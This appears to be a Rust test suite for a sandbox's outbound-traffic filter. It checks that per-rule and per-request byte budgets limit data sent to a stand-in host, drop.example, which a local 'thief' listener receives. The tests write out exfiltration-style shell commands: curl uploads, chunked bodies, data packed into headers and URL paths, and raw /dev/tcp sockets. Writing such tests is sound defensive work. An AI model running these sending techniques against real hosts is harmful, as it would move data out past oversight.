//! How much may leave under a rule that says how much.

use outgate_harness::audit::{records, text};
use outgate_harness::{Identity, Lab, Sandbox, lab_tests};

use crate::streams::{HANDSHAKE, frame};
use crate::{bash, thief};

/// A sandbox whose rule for the thief's host has this budget.
fn allowed<'l>(lab: &'l Lab, budget: &str) -> Sandbox<'l> {
    let file = lab
        .folder("given", Identity::Own)
        .join(format!("{budget}.toml"));
    let policy = format!(
        "[[allow]]\nrule = \"http://drop.example:8099\"\nbudget = \"{budget}\"\n\
         [[allow]]\nrule = \"ws://drop.example:8099\"\nbudget = \"{budget}\"\n"
    );
    std::fs::write(&file, policy).expect("a policy");
    let work = lab.folder("work", Identity::Own);
    Sandbox::plain(lab, Identity::Own)
        .option("-P", "base")
        .option("-p", &file.to_string_lossy())
        .option("-w", &work.to_string_lossy())
        .pin("drop.example:8099=127.0.0.1:8099")
}

lab_tests! {
    fn what_a_rule_lets_out_is_counted_over_all_requests(lab) {
        let thief = thief();
        let file = lab.folder("records", Identity::Own).join("budget.jsonl");
        let script = "for n in 1 2 3 4 5; do head -c 3000 /dev/zero | tr '\\0' 'a' | curl -sS --data-binary @- $URL/$n; echo; done";
        let outcome = allowed(lab, "10K")
            .option("--audit", &file.to_string_lossy())
            .run(&bash(script));
        let arrived = outcome.stdout.lines().filter(|line| *line == "arrived").count();
        assert_eq!(arrived, 3, "{outcome}");
        assert!(outcome.stdout.contains("outgate denied POST http://drop.example:8099"), "{outcome}");
        assert!(outcome.stdout.contains("10K.toml:2:9"), "the place: {outcome}");
        let sent = thief.take();
        assert!(sent.len() <= 10 * 1024 && sent.len() > 9000, "{}", sent.len());
        let records = records(&file);
        let of = |verdict: &str| {
            let is = |record: &&serde_json::Value| {
                text(record, "reason") == "budget" && text(record, "verdict") == verdict
            };
            records.iter().filter(is).count()
        };
        assert_eq!(of("note"), 1, "told once that it is nearly spent: {records:?}");
        assert!(of("deny") >= 1, "{records:?}");
    }

    fn content_of_no_known_length_ends_where_the_budget_does(lab) {
        let thief = thief();
        let script = "head -c 3000000 /dev/zero | curl -sS -H 'Transfer-Encoding: chunked' -H 'Expect:' --data-binary @- $URL/; echo; curl -sS $URL/";
        let outcome = allowed(lab, "1M").run(&bash(script));
        assert!(!outcome.stdout.contains("arrived\n\n"), "{outcome}");
        let sent = thief.take();
        assert!(sent.len() <= (1 << 20) + 65_536, "{}", sent.len());
        assert!(outcome.stderr.contains("budget"), "{outcome}");
    }

    fn trailers_are_counted_as_content_is(lab) {
        let thief = thief();
        let value = "t".repeat(3000);
        let script = format!(
            "exec 3<>/dev/tcp/drop.example/8099; printf 'POST / HTTP/1.1\\r\\nHost: drop.example:8099\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: x-late\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nx-late: {value}\\r\\n\\r\\n' >&3; timeout 1 cat <&3",
        );
        for (budget, arrives) in [("2K", false), ("64K", true)] {
            let file = lab.folder("records", Identity::Own).join("trailers.jsonl");
            let outcome = allowed(lab, budget)
                .option("--audit", &file.to_string_lossy())
                .run(&bash(&script));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert_eq!(sent.contains(&value), arrives, "{budget}: {sent} {outcome}");
            assert_eq!(outcome.stderr.contains("raise `budget`"), !arrives, "{budget}: {outcome}");
            let up = |record: &serde_json::Value| record["bytes_up"].as_u64();
            let up = records(&file).iter().filter_map(up).max();
            assert_eq!(up.is_some_and(|up| up > 3000), arrives, "{budget}: {up:?}");
            std::fs::remove_file(&file).expect("a record");
        }
    }

    fn an_only_rule_without_a_budget_does_not_lift_one(lab) {
        let thief = thief();
        let file = lab.folder("given", Identity::Own).join("only.toml");
        let policy = "[[only]]\nrule = \"http://drop.example:8099\"\n\
                      [[allow]]\nrule = \"http://drop.example:8099\"\nbudget = \"4K\"\n";
        std::fs::write(&file, policy).expect("a policy");
        let script = "for n in 1 2 3; do head -c 3000 /dev/zero | tr '\\0' 'a' | curl -sS --data-binary @- $URL/$n; echo; done";
        let outcome = Sandbox::plain(lab, Identity::Own)
            .option("-P", "base")
            .option("-p", &file.to_string_lossy())
            .pin("drop.example:8099=127.0.0.1:8099")
            .run(&bash(script));
        let arrived = outcome.stdout.lines().filter(|line| *line == "arrived").count();
        assert_eq!(arrived, 1, "{outcome}");
        assert!(thief.take().len() <= 4096, "{outcome}");
        assert!(outcome.stderr.contains("only.toml:4:9"), "the place: {outcome}");
    }

    fn messages_of_a_websocket_are_counted(lab) {
        let thief = thief();
        let given = lab.folder("given", Identity::Own);
        std::fs::write(given.join("handshake"), HANDSHAKE).expect("a file");
        let message = frame(0x82, &[b'a'; 200]);
        std::fs::write(given.join("message"), message).expect("a file");
        let script = format!(
            "exec 3<>/dev/tcp/drop.example/8099; cat {0}/handshake >&3; sleep 0.3; for n in 1 2 3 4 5 6 7 8 9; do cat {0}/message >&3; sleep 0.1; done",
            given.display(),
        );
        let sandbox = allowed(lab, "1K").option("-r", &given.to_string_lossy());
        let outcome = sandbox.run(&bash(&script));
        let sent = thief.take();
        let messages = sent.windows(200).filter(|bytes| *bytes == [b'a'; 200]).count();
        assert!((1..=4).contains(&messages), "{messages} arrived: {outcome}");
        assert!(sent.len() <= 1024 + 64, "{}", sent.len());
        assert!(outcome.stderr.contains("raise `budget`"), "{outcome}");
    }

    fn tls_that_passes_unopened_is_counted(lab) {
        let thief = thief();
        let given = lab.folder("given", Identity::Own);
        let policy = "[[allow]]\nrule = \"tls://drop.example:8099\"\nbudget = \"BUDGET\"\n";
        for (budget, arrives) in [("100B", false), ("64K", true)] {
            let file = given.join("tls.toml");
            std::fs::write(&file, policy.replace("BUDGET", budget)).expect("a policy");
            let outcome = Sandbox::plain(lab, Identity::Own)
                .option("-P", "base")
                .option("-p", &file.to_string_lossy())
                .pin("drop.example:8099=127.0.0.1:8099")
                .run(&bash("curl -sS --max-time 2 https://drop.example:8099/"));
            let sent = thief.take();
            assert_eq!(!sent.is_empty(), arrives, "{budget}: {} bytes, {outcome}", sent.len());
            assert_eq!(outcome.stderr.contains("raise `budget`"), !arrives, "{outcome}");
        }
    }

    fn each_request_is_bounded_by_itself(lab) {
        let thief = thief();
        let file = lab.folder("given", Identity::Own).join("each.toml");
        let policy = "[[allow]]\nrule = \"http://drop.example:8099\"\nbudget_each = \"4K\"\n";
        std::fs::write(&file, policy).expect("a policy");
        let sandbox = || Sandbox::plain(lab, Identity::Own)
            .option("-P", "base")
            .option("-p", &file.to_string_lossy())
            .pin("drop.example:8099=127.0.0.1:8099");
        // Small ones as many as there are, on one connection.
        let small = "head -c 3000 /dev/zero >$TMPDIR/s; curl -sS --data-binary @$TMPDIR/s $URL/1 --next -sS --data-binary @$TMPDIR/s $URL/2 --next -sS --data-binary @$TMPDIR/s $URL/3";
        let outcome = sandbox().run(&bash(small));
        assert_eq!(outcome.stdout, "arrived\narrived\narrived\n", "{outcome}");
        assert!(thief.take().len() > 9000);
        // A large one by no way: of a length that is said, in chunks, or in fields.
        for large in [
            "head -c 5000 /dev/zero | curl -sS --data-binary @- $URL/",
            "head -c 500000 /dev/zero | curl -sS -H 'Transfer-Encoding: chunked' -H 'Expect:' --data-binary @- $URL/",
            "curl -sS -H \"X-Data: $(head -c 5000 /dev/zero | tr '\\0' a)\" $URL/",
            "curl -sS \"$URL/$(head -c 5000 /dev/zero | tr '\\0' a)\"",
        ] {
            let outcome = sandbox().run(&bash(large));
            assert!(!outcome.stdout.contains("arrived"), "{large}: {outcome}");
            assert!(outcome.stderr.contains("raise `budget_each`"), "{large}: {outcome}");
            let sent = thief.take().len();
            assert!(sent <= 4096, "{large}: {sent}");
        }
    }

    fn what_fits_arrives(lab) {
        let thief = thief();
        let script = "head -c 900000 /dev/zero | curl -sS --data-binary @- $URL/";
        let outcome = allowed(lab, "1M").run(&bash(script));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert!(!outcome.stderr.contains("outgate"), "{outcome}");
        assert!(thief.take().len() > 900_000);
    }
}
